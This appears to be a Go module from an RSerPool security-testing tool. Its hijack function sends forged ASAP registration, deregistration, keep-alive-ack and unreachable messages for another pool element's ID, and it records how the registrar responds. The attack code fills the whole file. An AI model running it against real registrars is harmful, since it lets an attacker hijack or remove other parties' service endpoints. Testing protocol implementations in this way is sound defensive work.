package attack

import (
	"context"

	"github.com/rserpool-go/rserpool/wire/asapmsg"
)

// hijack tries from another host to replace an element, to remove it, to answer its keep-alives, and to report it as
// unreachable until it is removed.
func hijack(ctx context.Context, w *work) error {
	s, err := w.speakASAP(ctx, 0)
	if err != nil {
		return err
	}
	defer s.close()
	s.hearASAP(func(m asapmsg.Message) {
		switch m := m.(type) {
		case *asapmsg.RegistrationResponse:
			w.note(registrationOutcome(m), 1)
		case *asapmsg.DeregistrationResponse:
			if len(m.Causes) == 0 {
				w.note(outcomeDeregistered, 1)
			}
		}
	})
	for p := w.pacer(1); p.next(ctx); {
		for _, m := range []asapmsg.Message{
			&asapmsg.Registration{PoolHandle: w.Pool, PoolElement: newElement(w.ID, s.addr().Addr())},
			&asapmsg.Deregistration{PoolHandle: w.Pool, PEID: w.ID},
			&asapmsg.EndpointKeepAliveAck{PoolHandle: w.Pool, PEID: w.ID},
			&asapmsg.EndpointUnreachable{PoolHandle: w.Pool, PEID: w.ID},
		} {
			if err := s.tell(ctx, m); err != nil {
				return w.endError(ctx, err)
			}
			w.count(1)
		}
	}
	return nil
}
